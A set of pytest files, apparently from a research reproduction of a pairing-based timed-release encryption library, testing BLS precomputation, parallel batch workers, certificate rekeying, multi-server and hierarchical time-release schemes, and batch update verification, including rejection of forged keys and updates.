        assert bls.verify(keypair.public, b"some message", sig)
        bls.precompute_public(keypair.public)
        assert bls.verify(keypair.public, b"some message", sig)
        assert not bls.verify(keypair.public, b"another message", sig)
        any_group.clear_precomputations()

    def test_server_key_precompute_warms_all_caches(self, rng):
        from repro.pairing.api import PairingGroup

        fresh = PairingGroup("toy64", family="A")
        keypair = ServerKeyPair.generate(fresh, rng)
        keypair.public.precompute(fresh)
        assert len(fresh._fixed_base) == 2
        assert len(fresh._pairing_precomp) == 2
        user = UserKeyPair.generate(fresh, keypair.public, rng)
        assert user.public.verify_well_formed(fresh, keypair.public)
