"""Workers must rehydrate parent-recorded Miller lines, never re-record.

The parallel engine's warm-up fix: the parent records the batch's shared
line tables once, ships them in the job as an export blob, and each
worker installs the blob into its rebuilt group.  The regression these
tests pin is a worker silently paying the recording cost per process —
so the recorder entry points are rigged to explode and the batch must
still come back byte-identical.
"""

import multiprocessing

import pytest

from repro import parallel
from repro.core.timeserver import PassiveTimeServer, epoch_label, verify_archive
from repro.core.tre import TimedReleaseScheme
from repro.pairing.tate import TatePairing

pytestmark = pytest.mark.skipif(
    "fork" not in multiprocessing.get_all_start_methods(),
    reason="fork start method required to inherit the rigged recorder",
)


def _boom(*args, **kwargs):
    raise AssertionError("worker re-recorded Miller lines")


@pytest.fixture()
def batch(group, session_rng):
    server = PassiveTimeServer(group, rng=session_rng)
    scheme = TimedReleaseScheme(group)
    user = scheme.generate_user_keypair(server.public_key, session_rng)
    label = b"warmup-T"
    update = server.issue_update(label)
    ciphertexts = [
        scheme.encrypt(
            f"warmup message {i}".encode(), user.public, server.public_key,
            label, session_rng, verify_receiver_key=False,
        )
        for i in range(8)
    ]
    yield server, scheme, user, update, ciphertexts
    group.clear_precomputations()


def test_decrypt_workers_never_record(group, batch, monkeypatch):
    server, scheme, user, update, ciphertexts = batch
    expected = scheme.decrypt_batch(ciphertexts, user, update)
    # Pre-warm the parent's cache, then rig every recorder entry point:
    # the parent's export reads the warm cache and forked workers
    # (which inherit the rigged class) must install the shipped blob —
    # any recording attempt, parent or worker, now fails the batch.
    group.precompute_pairing(update.point)
    monkeypatch.setattr(TatePairing, "precompute_lines", _boom)
    monkeypatch.setattr(TatePairing, "_record", _boom)
    out = scheme.decrypt_batch(
        ciphertexts, user, update, workers=2, chunk_size=2
    )
    assert out == expected


def test_verify_archive_workers_never_record(group, session_rng, monkeypatch):
    server = PassiveTimeServer(group, rng=session_rng)
    updates = [server.publish_update(epoch_label(e)) for e in range(8)]
    expected = verify_archive(group, server.public_key, updates)
    assert expected == []
    group.precompute_pairing(server.public_key.s_generator)
    group.precompute_pairing(server.public_key.generator)
    monkeypatch.setattr(TatePairing, "precompute_lines", _boom)
    monkeypatch.setattr(TatePairing, "_record", _boom)
    try:
        out = verify_archive(
            group, server.public_key, updates, workers=2, chunk_size=2
        )
    finally:
        group.clear_precomputations()
    assert out == expected


def test_shared_tables_install_is_idempotent_per_worker(group):
    """Two chunks through one worker install the blob exactly once.

    Exercised in-process via the sequential fallback: the first call
    installs into the rebuilt worker group and marks the digest; the
    second must hit the marker (the rigged recorder would catch a
    re-record, and a re-install is merely wasteful but the marker set
    proves it is skipped).
    """
    blob = group.export_pairing_lines([group.generator])
    spec = parallel._group_spec(group)
    parallel._WORKER_GROUPS.pop(spec, None)
    before = len(parallel._WORKER_TABLE_KEYS)
    for _ in range(2):
        status, value = parallel._execute_chunk(
            ("selftest.echo", spec, blob, b"S", [b"x"])
        )
        assert status == "ok" and value == [b"Sx"]
    assert len(parallel._WORKER_TABLE_KEYS) == before + 1
    parallel._WORKER_GROUPS.pop(spec, None)


def test_auto_workers_warmup_parameter():
    """Shipping tables lowers the modeled warmup, so marginal batch
    sizes flip from sequential to parallel."""
    cold = parallel.WORKER_WARMUP_ITEM_COST
    warm = parallel.WORKER_WARMUP_WITH_TABLES_COST
    assert warm < cold
    flipped = [
        n for n in range(2, 64)
        if parallel.auto_workers(n, cpus=4, warmup=warm)
        > parallel.auto_workers(n, cpus=4, warmup=cold)
    ]
    assert flipped, "warm warmup never changed the auto decision"
    # And the default is the cold model.
    for n in (2, 8, 32):
        assert parallel.auto_workers(n, cpus=4) == parallel.auto_workers(
            n, cpus=4, warmup=cold
        )


def test_group_spec_roundtrips_backend(group):
    spec = parallel._group_spec(group)
    assert spec[-1] == group.backend_name
    rebuilt = parallel._group_from_spec(spec)
    try:
        assert rebuilt.backend_name == group.backend_name
        assert rebuilt == group
    finally:
        parallel._WORKER_GROUPS.pop(spec, None)
