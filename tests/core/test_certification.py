"""Tests for the CA substrate and the §5.3.4 server-change flow."""

import pytest

from repro.core.certification import (
    Certificate,
    CertificateAuthority,
    verify_rekeyed_public_key,
)
from repro.core.keys import ServerKeyPair, UserKeyPair, UserPublicKey
from repro.core.timeserver import PassiveTimeServer
from repro.errors import KeyValidationError


@pytest.fixture(scope="module")
def ca(group, session_rng):
    return CertificateAuthority(group, session_rng)


@pytest.fixture(scope="module")
def cert(ca, group, server, user):
    return ca.issue(b"alice", user.public.a_generator, server.public_key.generator)


class TestCertificateAuthority:
    def test_issue_verify(self, ca, cert):
        assert ca.verify(cert)

    def test_tampered_subject_rejected(self, ca, cert):
        forged = Certificate(
            b"mallory", cert.a_generator, cert.generator, cert.signature
        )
        assert not ca.verify(forged)

    def test_tampered_point_rejected(self, ca, cert, group, rng):
        forged = Certificate(
            cert.subject, group.random_point(rng), cert.generator, cert.signature
        )
        assert not ca.verify(forged)

    def test_ca_independent_of_time_server(self, ca, server):
        # Different key material entirely.
        assert ca.public_key != server.public_key


class TestServerChange:
    def test_same_generator_rekey_accepted(self, ca, cert, group, server, user, rng):
        # New server reuses the old generator (footnote 11's simple case).
        new_server = ServerKeyPair.generate(
            group, rng, generator=server.public_key.generator
        )
        rekeyed = user.rekey_to_server(group, new_server.public)
        verify_rekeyed_public_key(group, cert, new_server.public, rekeyed.public, ca)

    def test_different_generator_rekey_accepted(self, ca, cert, group, user, rng):
        new_server = PassiveTimeServer(group, rng=rng)  # fresh generator G'
        rekeyed = user.rekey_to_server(group, new_server.public_key)
        verify_rekeyed_public_key(
            group, cert, new_server.public_key, rekeyed.public, ca
        )

    def test_wrong_secret_rejected(self, ca, cert, group, rng):
        new_server = PassiveTimeServer(group, rng=rng)
        impostor = UserKeyPair.generate(group, new_server.public_key, rng)
        with pytest.raises(KeyValidationError):
            verify_rekeyed_public_key(
                group, cert, new_server.public_key, impostor.public, ca
            )

    def test_malformed_as_component_rejected(self, ca, cert, group, user, rng):
        new_server = PassiveTimeServer(group, rng=rng)
        rekeyed = user.rekey_to_server(group, new_server.public_key)
        forged = UserPublicKey(
            rekeyed.public.a_generator, group.random_point(rng)
        )
        with pytest.raises(KeyValidationError):
            verify_rekeyed_public_key(
                group, cert, new_server.public_key, forged, ca
            )

    def test_same_generator_with_changed_aG_rejected(
        self, ca, cert, group, server, user, rng
    ):
        new_server = ServerKeyPair.generate(
            group, rng, generator=server.public_key.generator
        )
        other = UserKeyPair.generate(group, new_server.public, rng)
        with pytest.raises(KeyValidationError):
            verify_rekeyed_public_key(
                group, cert, new_server.public, other.public, ca
            )

    def test_invalid_certificate_rejected(self, ca, cert, group, user, rng):
        new_server = PassiveTimeServer(group, rng=rng)
        rekeyed = user.rekey_to_server(group, new_server.public_key)
        bad_cert = Certificate(
            b"alice", cert.a_generator, cert.generator, group.random_point(rng)
        )
        with pytest.raises(KeyValidationError):
            verify_rekeyed_public_key(
                group, bad_cert, new_server.public_key, rekeyed.public, ca
            )

    def test_rekeyed_key_actually_works(self, group, user, rng):
        """End to end: after the server change, TRE under the new server
        works with the unchanged secret ``a``."""
        from repro.core.tre import TimedReleaseScheme

        new_server = PassiveTimeServer(group, rng=rng)
        rekeyed = user.rekey_to_server(group, new_server.public_key)
        scheme = TimedReleaseScheme(group)
        ct = scheme.encrypt(
            b"post-migration", rekeyed.public, new_server.public_key, b"t", rng
        )
        update = new_server.publish_update(b"t")
        assert scheme.decrypt(ct, rekeyed, update) == b"post-migration"
