"""The process-parallel batch engine must be invisible to callers.

Sharding a batch across worker processes may never change a single
byte of output relative to the sequential path, regardless of worker
count, chunk size, or start method — and a worker that raises must
surface its exception in the parent instead of hanging the pool.
"""

import pytest

from repro import parallel
from repro.core.timeserver import (
    PassiveTimeServer,
    TimeBoundKeyUpdate,
    verify_archive,
)
from repro.core.tre import TimedReleaseScheme
from repro.errors import ParallelExecutionError, ParameterError


@pytest.fixture(scope="module")
def batch(group, session_rng):
    """A server, a receiver, and 12 same-label ciphertexts."""
    server = PassiveTimeServer(group, rng=session_rng)
    scheme = TimedReleaseScheme(group)
    user = scheme.generate_user_keypair(server.public_key, session_rng)
    label = b"parallel-T"
    update = server.issue_update(label)
    messages = [f"parallel message {i}".encode() for i in range(12)]
    ciphertexts = [
        scheme.encrypt(
            message, user.public, server.public_key, label, session_rng,
            verify_receiver_key=False,
        )
        for message in messages
    ]
    return server, scheme, user, update, messages, ciphertexts


class TestEngine:
    def test_echo_roundtrip_parallel(self, group):
        payloads = [bytes([i]) * 3 for i in range(10)]
        out = parallel.parallel_map(
            "selftest.echo", group, b"S", payloads, workers=3
        )
        assert out == [b"S" + p for p in payloads]

    def test_sequential_fallback_matches(self, group):
        payloads = [b"a", b"b", b"c"]
        seq = parallel.parallel_map("selftest.echo", group, b"x", payloads, workers=1)
        par = parallel.parallel_map("selftest.echo", group, b"x", payloads, workers=2)
        assert seq == par

    @pytest.mark.parametrize("chunk_size", [1, 2, 5, 100])
    def test_chunk_size_invariance(self, group, chunk_size):
        payloads = [bytes([i]) for i in range(11)]
        out = parallel.parallel_map(
            "selftest.echo", group, b"", payloads,
            workers=4, chunk_size=chunk_size,
        )
        assert out == payloads

    def test_empty_payloads(self, group):
        assert parallel.parallel_map("selftest.echo", group, b"", [], workers=4) == []

    def test_unknown_task_rejected(self, group):
        with pytest.raises(ParameterError):
            parallel.parallel_map("no.such.task", group, b"", [b"x"])

    def test_worker_failure_surfaces(self, group):
        with pytest.raises(ParallelExecutionError) as info:
            parallel.parallel_map(
                "selftest.fail", group, b"", [b"x", b"y", b"z"], workers=2
            )
        # The worker traceback text travels with the exception.
        assert "selftest.fail invoked" in str(info.value)
        assert "RuntimeError" in str(info.value)

    def test_failure_surfaces_in_sequential_fallback(self, group):
        with pytest.raises(ParallelExecutionError):
            parallel.parallel_map("selftest.fail", group, b"", [b"x"], workers=1)

    def test_default_chunk_size(self):
        assert parallel.default_chunk_size(0, 4) == 1
        assert parallel.default_chunk_size(16, 4) == 1
        assert parallel.default_chunk_size(64, 4) == 4
        assert parallel.default_chunk_size(5, 1) == 2

    def test_duplicate_registration_rejected(self):
        with pytest.raises(ParameterError):
            parallel.register_task("selftest.echo")(lambda g, s, c: c)

    def test_task_registry_lists_builtins(self):
        names = parallel.task_names()
        assert "tre.decrypt" in names
        assert "timeserver.verify_update" in names


class TestDecryptBatchParallel:
    def test_byte_identical_across_worker_counts(self, group, batch):
        _, scheme, user, update, messages, ciphertexts = batch
        sequential = scheme.decrypt_batch(ciphertexts, user, update)
        assert sequential == messages
        for workers in (1, 2, 4):
            sharded = scheme.decrypt_batch(
                ciphertexts, user, update, workers=workers
            )
            assert sharded == sequential

    @pytest.mark.parametrize("chunk_size", [1, 3, 7, 50])
    def test_byte_identical_across_chunk_sizes(self, group, batch, chunk_size):
        _, scheme, user, update, messages, ciphertexts = batch
        sharded = scheme.decrypt_batch(
            ciphertexts, user, update, workers=3, chunk_size=chunk_size
        )
        assert sharded == messages

    def test_label_mismatch_raised_before_dispatch(self, group, batch, rng):
        server, scheme, user, update, _, ciphertexts = batch
        stray = scheme.encrypt(
            b"stray", user.public, server.public_key, b"other-T", rng,
            verify_receiver_key=False,
        )
        from repro.errors import UpdateVerificationError

        with pytest.raises(UpdateVerificationError):
            scheme.decrypt_batch(ciphertexts + [stray], user, update, workers=4)

    def test_accepts_bare_private_scalar(self, group, batch):
        _, scheme, user, update, messages, ciphertexts = batch
        assert (
            scheme.decrypt_batch(ciphertexts, user.private, update, workers=2)
            == messages
        )


class TestVerifyArchiveParallel:
    @pytest.fixture(scope="class")
    def archive(self, group, session_rng):
        server = PassiveTimeServer(group, rng=session_rng)
        updates = [
            server.publish_update(f"parallel-archive-{i}".encode())
            for i in range(10)
        ]
        return server, updates

    def test_clean_archive_all_worker_counts(self, group, archive):
        server, updates = archive
        for workers in (None, 1, 3):
            assert verify_archive(
                group, server.public_key, updates, workers=workers
            ) == []

    def test_forged_update_pinpointed(self, group, archive, rng):
        server, updates = archive
        tampered = list(updates)
        tampered[4] = TimeBoundKeyUpdate(
            updates[4].time_label, group.random_point(rng)
        )
        expected = [updates[4].time_label]
        assert verify_archive(group, server.public_key, tampered) == expected
        assert (
            verify_archive(group, server.public_key, tampered, workers=3)
            == expected
        )

    def test_parallel_matches_sequential_order(self, group, archive, rng):
        server, updates = archive
        tampered = list(updates)
        for index in (1, 5, 8):
            tampered[index] = TimeBoundKeyUpdate(
                updates[index].time_label, group.random_point(rng)
            )
        sequential = verify_archive(group, server.public_key, tampered)
        sharded = verify_archive(
            group, server.public_key, tampered, workers=4, chunk_size=2
        )
        assert sequential == sharded == [
            updates[i].time_label for i in (1, 5, 8)
        ]

    def _off_curve_update(self, group, rng, label):
        """An update whose point satisfies nothing: ``to_bytes`` works
        but a worker's ``from_bytes`` raises ``NotOnCurveError``."""
        from repro.ec.point import CurvePoint

        point = group.random_point(rng)
        one = point.y / point.y
        return TimeBoundKeyUpdate(
            label, CurvePoint(point.curve, point.x, point.y + one)
        )

    def test_worker_raising_update_marks_failed_not_aborts(
        self, group, archive, rng
    ):
        """Partial-failure semantics: an update the worker cannot even
        decode is a *failed update*, not a ``ParallelExecutionError``
        aborting the whole batch (regression)."""
        server, updates = archive
        tampered = list(updates)
        tampered[3] = self._off_curve_update(
            group, rng, updates[3].time_label
        )
        sequential = verify_archive(group, server.public_key, tampered)
        sharded = verify_archive(
            group, server.public_key, tampered, workers=3, chunk_size=2
        )
        assert sequential == sharded == [updates[3].time_label]

    def test_mixed_failure_modes_identical_lists(self, group, archive, rng):
        """Forged points, off-curve points and honest updates mixed:
        sequential and parallel must report the same labels in the
        same order."""
        server, updates = archive
        tampered = list(updates)
        tampered[1] = TimeBoundKeyUpdate(
            updates[1].time_label, group.random_point(rng)
        )
        tampered[4] = self._off_curve_update(
            group, rng, updates[4].time_label
        )
        tampered[7] = self._off_curve_update(
            group, rng, updates[7].time_label
        )
        expected = [updates[i].time_label for i in (1, 4, 7)]
        for workers, chunk_size in ((None, None), (2, 3), (4, 1)):
            assert (
                verify_archive(
                    group,
                    server.public_key,
                    tampered,
                    workers=workers,
                    chunk_size=chunk_size,
                )
                == expected
            )


class TestAutoWorkers:
    """The cost model must refuse to fork when forking is a loss."""

    def test_trivial_batches_sequential(self):
        assert parallel.auto_workers(0) == 1
        assert parallel.auto_workers(1) == 1

    def test_single_cpu_sequential(self):
        assert parallel.auto_workers(1000, cpus=1) == 1

    def test_small_batch_sequential(self):
        # Warmup (~4 items of work) cannot pay off on a 4-item batch.
        assert parallel.auto_workers(4, cpus=8) == 1

    def test_large_batch_uses_all_cpus(self):
        assert parallel.auto_workers(1000, cpus=4) == 4

    def test_worker_count_capped_by_items(self):
        assert parallel.auto_workers(3, cpus=64) <= 3

    def test_prefers_fewest_workers_among_cost_ties(self):
        # ceil(10/w) == 2 for w in 5..8, so all four tie; the model
        # must not spawn processes that cannot reduce the critical path.
        assert parallel.auto_workers(10, cpus=8) == 5

    def test_parallel_map_none_routes_through_auto(self, group):
        # Two items -> auto picks sequential; output must be identical
        # to an explicit workers=1 call.
        payloads = [b"a", b"b"]
        auto = parallel.parallel_map("selftest.echo", group, b"S:", payloads)
        seq = parallel.parallel_map(
            "selftest.echo", group, b"S:", payloads, workers=1
        )
        assert auto == seq == [b"S:a", b"S:b"]

    def test_decrypt_batch_auto_passthrough(self, group, batch):
        server, scheme, user, update, messages, ciphertexts = batch
        assert (
            scheme.decrypt_batch(ciphertexts, user, update, workers="auto")
            == messages
        )

    def test_verify_archive_auto_passthrough(self, group, session_rng):
        server = PassiveTimeServer(group, rng=session_rng)
        updates = [
            server.publish_update(f"auto-archive-{i}".encode())
            for i in range(6)
        ]
        assert (
            verify_archive(group, server.public_key, updates, workers="auto")
            == []
        )
