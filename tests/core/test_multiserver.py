"""Tests for multi-server TRE (§5.3.5)."""

import pytest

from repro.core.multiserver import (
    MultiServerCiphertext,
    MultiServerTimedReleaseScheme,
    MultiServerUserKeyPair,
)
from repro.core.timeserver import PassiveTimeServer
from repro.errors import (
    EncodingError,
    KeyValidationError,
    ParameterError,
    UpdateVerificationError,
)

RELEASE = b"2031-07-07T07:07Z"


@pytest.fixture(scope="module")
def servers(group, session_rng):
    return [PassiveTimeServer(group, rng=session_rng) for _ in range(3)]


@pytest.fixture(scope="module")
def scheme(group, servers):
    return MultiServerTimedReleaseScheme(group, [s.public_key for s in servers])


@pytest.fixture(scope="module")
def ms_user(group, servers, session_rng):
    return MultiServerUserKeyPair.generate(
        group, [s.public_key for s in servers], session_rng
    )


class TestRoundtrip:
    def test_basic(self, scheme, servers, ms_user, rng):
        ct = scheme.encrypt(b"split trust", ms_user.public, RELEASE, rng)
        updates = [s.publish_update(RELEASE) for s in servers]
        assert scheme.decrypt(ct, ms_user.private, updates) == b"split trust"

    def test_single_server_degenerates_to_tre(self, group, rng):
        server = PassiveTimeServer(group, rng=rng)
        scheme = MultiServerTimedReleaseScheme(group, [server.public_key])
        user = MultiServerUserKeyPair.generate(group, [server.public_key], rng)
        ct = scheme.encrypt(b"n=1", user.public, RELEASE, rng)
        assert len(ct.u_points) == 1
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(ct, user.private, [update]) == b"n=1"

    def test_serialization(self, scheme, group, ms_user, rng):
        ct = scheme.encrypt(b"m", ms_user.public, RELEASE, rng)
        assert MultiServerCiphertext.from_bytes(group, ct.to_bytes(group)) == ct

    def test_ciphertext_grows_linearly(self, group, rng):
        sizes = []
        for n in (1, 2, 4):
            servers = [PassiveTimeServer(group, rng=rng) for _ in range(n)]
            scheme = MultiServerTimedReleaseScheme(
                group, [s.public_key for s in servers]
            )
            user = MultiServerUserKeyPair.generate(
                group, [s.public_key for s in servers], rng
            )
            ct = scheme.encrypt(b"m" * 16, user.public, RELEASE, rng)
            sizes.append(ct.size_bytes(group))
        assert sizes[1] - sizes[0] == pytest.approx(
            (sizes[2] - sizes[1]) / 2, abs=8
        )


class TestCollusionResistance:
    def test_missing_one_update_fails(self, scheme, servers, ms_user, rng):
        ct = scheme.encrypt(b"m", ms_user.public, RELEASE, rng)
        updates = [s.publish_update(RELEASE) for s in servers]
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt(ct, ms_user.private, updates[:-1])

    def test_duplicated_update_fails(self, scheme, servers, ms_user, rng):
        ct = scheme.encrypt(b"m", ms_user.public, RELEASE, rng)
        updates = [s.publish_update(RELEASE) for s in servers]
        bad = [updates[0], updates[0], updates[2]]
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt(ct, ms_user.private, bad)

    def test_unverified_duplicate_gives_garbage(self, scheme, servers, ms_user, rng):
        ct = scheme.encrypt(b"m", ms_user.public, RELEASE, rng)
        updates = [s.publish_update(RELEASE) for s in servers]
        bad = [updates[0], updates[0], updates[2]]
        assert scheme.decrypt(ct, ms_user.private, bad, verify_updates=False) != b"m"

    def test_wrong_label_update_fails(self, scheme, servers, ms_user, rng):
        ct = scheme.encrypt(b"m", ms_user.public, RELEASE, rng)
        updates = [s.publish_update(RELEASE) for s in servers[:-1]]
        updates.append(servers[-1].publish_update(b"some-other-time"))
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt(ct, ms_user.private, updates)


class TestKeyValidation:
    def test_component_count_checked(self, scheme, group, servers, rng):
        short = MultiServerUserKeyPair.generate(
            group, [servers[0].public_key], rng
        )
        with pytest.raises(KeyValidationError):
            scheme.encrypt(b"m", short.public, RELEASE, rng)

    def test_mixed_secret_components_rejected(self, scheme, group, servers, rng):
        u1 = MultiServerUserKeyPair.generate(
            group, [s.public_key for s in servers], rng
        )
        u2 = MultiServerUserKeyPair.generate(
            group, [s.public_key for s in servers], rng
        )
        frankenstein = (u1.components[0], u2.components[1], u1.components[2])
        with pytest.raises(KeyValidationError):
            scheme.encrypt(b"m", frankenstein, RELEASE, rng)

    def test_malformed_component_rejected(self, scheme, group, servers, ms_user, rng):
        from repro.core.keys import UserPublicKey

        bad = (
            UserPublicKey(group.random_point(rng), group.random_point(rng)),
        ) + ms_user.components[1:]
        with pytest.raises(KeyValidationError):
            scheme.encrypt(b"m", bad, RELEASE, rng)

    def test_empty_server_list_rejected(self, group):
        with pytest.raises(ParameterError):
            MultiServerTimedReleaseScheme(group, [])

    def test_ciphertext_server_count_mismatch(self, scheme, group, servers,
                                              ms_user, rng):
        ct = scheme.encrypt(b"m", ms_user.public, RELEASE, rng)
        updates = [s.publish_update(RELEASE) for s in servers]
        truncated = MultiServerCiphertext(ct.u_points[:2], ct.masked, ct.time_label)
        with pytest.raises((EncodingError, UpdateVerificationError)):
            scheme.decrypt(truncated, ms_user.private, updates)
