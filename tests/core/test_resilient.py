"""Tests for the missing-update-resilient hierarchical TRE (§6 future work)."""

import pytest

from repro.core.resilient import (
    HierarchicalTimeTree,
    NodeKey,
    ResilientTRE,
    ResilientTimeServer,
    epoch_path,
    left_cover,
)
from repro.errors import (
    ParameterError,
    UpdateNotAvailableError,
    UpdateVerificationError,
)

DEPTH = 6


@pytest.fixture(scope="module")
def resilient_world(group, session_rng):
    server = ResilientTimeServer(group, DEPTH, session_rng)
    scheme = ResilientTRE(group, server.tree, server.public_key)
    user = scheme.generate_user_keypair(server.public_key, session_rng)
    return server, scheme, user


class TestTreeGeometry:
    def test_epoch_path(self):
        assert epoch_path(0, 3) == (0, 0, 0)
        assert epoch_path(5, 3) == (1, 0, 1)
        assert epoch_path(7, 3) == (1, 1, 1)

    def test_epoch_out_of_range(self):
        with pytest.raises(ParameterError):
            epoch_path(8, 3)
        with pytest.raises(ParameterError):
            epoch_path(-1, 3)

    @pytest.mark.parametrize("epoch", range(8))
    def test_cover_is_exact(self, epoch):
        """The cover contains every leaf <= epoch and nothing later."""
        cover = left_cover(epoch, 3)
        covered = set()
        for node in cover:
            free = 3 - len(node)
            base = 0
            for bit in node:
                base = (base << 1) | bit
            base <<= free
            covered.update(range(base, base + (1 << free)))
        assert covered == set(range(epoch + 1))

    def test_cover_size_bound(self):
        for epoch in range(64):
            assert len(left_cover(epoch, 6)) <= 7  # <= depth + 1

    def test_cover_nodes_disjoint(self):
        for epoch in (13, 29, 63):
            cover = left_cover(epoch, 6)
            for i, a in enumerate(cover):
                for b in cover[i + 1:]:
                    shorter, longer = sorted((a, b), key=len)
                    assert longer[: len(shorter)] != shorter

    def test_depth_validation(self, group):
        with pytest.raises(ParameterError):
            HierarchicalTimeTree(group, 0)

    def test_node_points_distinct_per_prefix(self, group):
        tree = HierarchicalTimeTree(group, 4)
        assert tree.node_point((0,)) != tree.node_point((1,))
        assert tree.node_point((0, 1)) != tree.node_point((1,))

    def test_namespace_separation(self, group):
        t1 = HierarchicalTimeTree(group, 4, namespace=b"a")
        t2 = HierarchicalTimeTree(group, 4, namespace=b"b")
        assert t1.node_point((0,)) != t2.node_point((0,))


class TestResilience:
    def test_later_update_opens_earlier_ciphertext(self, resilient_world, rng):
        """THE property: one update at t=29 opens a message released at
        t=13 even though updates 13..28 were all missed."""
        server, scheme, user = resilient_world
        ct = scheme.encrypt(b"missed 16 broadcasts", user.public, 13, rng)
        update = server.publish_update(29)
        assert scheme.decrypt(ct, user, update, rng) == b"missed 16 broadcasts"

    def test_single_update_opens_many_epochs(self, resilient_world, rng):
        server, scheme, user = resilient_world
        ciphertexts = {
            epoch: scheme.encrypt(f"m{epoch}".encode(), user.public, epoch, rng)
            for epoch in (0, 7, 20, 33, 40)
        }
        update = server.publish_update(40)
        for epoch, ct in ciphertexts.items():
            assert scheme.decrypt(ct, user, update, rng) == f"m{epoch}".encode()

    def test_exact_epoch_update(self, resilient_world, rng):
        server, scheme, user = resilient_world
        ct = scheme.encrypt(b"on time", user.public, 22, rng)
        update = server.publish_update(22)
        assert scheme.decrypt(ct, user, update, rng) == b"on time"

    @pytest.mark.parametrize("epoch", [0, 63])
    def test_boundary_epochs(self, resilient_world, rng, epoch):
        server, scheme, user = resilient_world
        ct = scheme.encrypt(b"edge", user.public, epoch, rng)
        update = server.publish_update(epoch)
        assert scheme.decrypt(ct, user, update, rng) == b"edge"


class TestTimeLock:
    def test_earlier_update_cannot_open(self, resilient_world, rng):
        server, scheme, user = resilient_world
        ct = scheme.encrypt(b"future", user.public, 30, rng)
        for past in (0, 15, 29):
            update = server.publish_update(past)
            with pytest.raises(UpdateNotAvailableError):
                scheme.decrypt(ct, user, update, rng)

    def test_wrong_receiver_gets_garbage(self, resilient_world, rng):
        server, scheme, user = resilient_world
        other = scheme.generate_user_keypair(server.public_key, rng)
        ct = scheme.encrypt(b"for user", user.public, 10, rng)
        update = server.publish_update(10)
        assert scheme.decrypt(ct, other, update, rng) != b"for user"

    def test_sibling_subtree_key_useless(self, resilient_world, rng):
        """A node key for the 0-subtree cannot be coerced onto a leaf in
        the 1-subtree."""
        server, scheme, user = resilient_world
        update = server.publish_update(31)  # covers leaves 0..31 = subtree (0,)
        future_epoch = 40  # path starts with bit 1
        ct = scheme.encrypt(b"future", user.public, future_epoch, rng)
        with pytest.raises(UpdateNotAvailableError):
            scheme.decrypt(ct, user, update, rng)
        # Even handcrafting a "leaf key" from the wrong subtree fails the
        # path guard.
        covering = update.node_keys[0]
        forged = NodeKey(
            epoch_path(future_epoch, DEPTH), covering.s_point, covering.q_points
        )
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt(ct, user, forged)

    def test_derivation_requires_cover(self, resilient_world, rng):
        server, scheme, _ = resilient_world
        update = server.publish_update(5)
        key = update.node_keys[0]
        with pytest.raises(UpdateNotAvailableError):
            scheme.derive_leaf_key(key, 63, rng)


class TestNodeKeys:
    def test_published_keys_verify(self, resilient_world):
        server, _, _ = resilient_world
        update = server.publish_update(29)
        assert all(server.verify_node_key(k) for k in update.node_keys)

    def test_forged_key_rejected(self, group, resilient_world, rng):
        server, _, _ = resilient_world
        genuine = server.publish_update(29).node_keys[0]
        forged = NodeKey(genuine.path, group.random_point(rng), genuine.q_points)
        assert not server.verify_node_key(forged)

    def test_derived_leaf_key_verifies(self, resilient_world, rng):
        server, scheme, _ = resilient_world
        update = server.publish_update(29)
        covering = scheme.find_covering_key(update, 13)
        leaf = scheme.derive_leaf_key(covering, 13, rng)
        assert server.verify_node_key(leaf)

    def test_rederivation_randomized_but_equivalent(self, resilient_world, rng):
        server, scheme, user = resilient_world
        update = server.publish_update(29)
        covering = scheme.find_covering_key(update, 13)
        k1 = scheme.derive_leaf_key(covering, 13, rng)
        k2 = scheme.derive_leaf_key(covering, 13, rng)
        assert k1 != k2  # fresh randomness
        ct = scheme.encrypt(b"either works", user.public, 13, rng)
        assert scheme.decrypt(ct, user, k1) == b"either works"
        assert scheme.decrypt(ct, user, k2) == b"either works"


class TestUpdateSize:
    def test_point_count_bounded(self, resilient_world):
        server, _, _ = resilient_world
        for epoch in range(0, 64, 7):
            update = server.publish_update(epoch)
            # Worst case: (depth+1) node keys of up to depth points each.
            assert update.point_count() <= (DEPTH + 1) * DEPTH
            assert update.size_bytes(server.group) > 0

    def test_all_ones_epoch_is_worst_case(self, resilient_world):
        server, _, _ = resilient_world
        worst = server.publish_update(63).point_count()
        best = server.publish_update(0).point_count()
        assert worst > best
