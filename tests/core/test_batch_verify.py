"""Tests for batch verification of updates/BLS signatures."""

import pytest

from repro.core.bls import BLSSignatureScheme
from repro.core.keys import ServerKeyPair
from repro.core.timeserver import (
    PassiveTimeServer,
    TimeBoundKeyUpdate,
    batch_verify_updates,
)


@pytest.fixture(scope="module")
def backlog(group, session_rng):
    server = PassiveTimeServer(group, rng=session_rng)
    updates = [server.publish_update(f"batch-{i}".encode()) for i in range(12)]
    return server, updates


class TestBatchVerifyUpdates:
    def test_genuine_backlog_accepted(self, group, backlog, rng):
        server, updates = backlog
        assert batch_verify_updates(group, server.public_key, updates, rng)

    def test_single_update_batch(self, group, backlog, rng):
        server, updates = backlog
        assert batch_verify_updates(group, server.public_key, updates[:1], rng)

    def test_empty_batch_rejected(self, group, backlog, rng):
        server, _ = backlog
        assert not batch_verify_updates(group, server.public_key, [], rng)

    def test_one_forged_update_poisons_batch(self, group, backlog, rng):
        server, updates = backlog
        forged = list(updates)
        forged[7] = TimeBoundKeyUpdate(b"batch-7", group.random_point(rng))
        assert not batch_verify_updates(group, server.public_key, forged, rng)

    def test_swapped_labels_rejected(self, group, backlog, rng):
        server, updates = backlog
        swapped = list(updates)
        swapped[0] = TimeBoundKeyUpdate(updates[1].time_label, updates[0].point)
        swapped[1] = TimeBoundKeyUpdate(updates[0].time_label, updates[1].point)
        assert not batch_verify_updates(group, server.public_key, swapped, rng)

    def test_other_servers_update_rejected(self, group, backlog, rng):
        server, updates = backlog
        other = PassiveTimeServer(group, rng=rng)
        mixed = updates[:-1] + [other.publish_update(b"batch-11")]
        assert not batch_verify_updates(group, server.public_key, mixed, rng)

    def test_infinity_point_rejected(self, group, backlog, rng):
        server, updates = backlog
        bad = updates[:-1] + [TimeBoundKeyUpdate(b"batch-11", group.identity())]
        assert not batch_verify_updates(group, server.public_key, bad, rng)

    def test_cost_is_two_pairings(self, group, backlog, rng):
        server, updates = backlog
        with group.counters.measure() as ops:
            assert batch_verify_updates(group, server.public_key, updates, rng)
        assert ops.get("pairing", 0) == 2
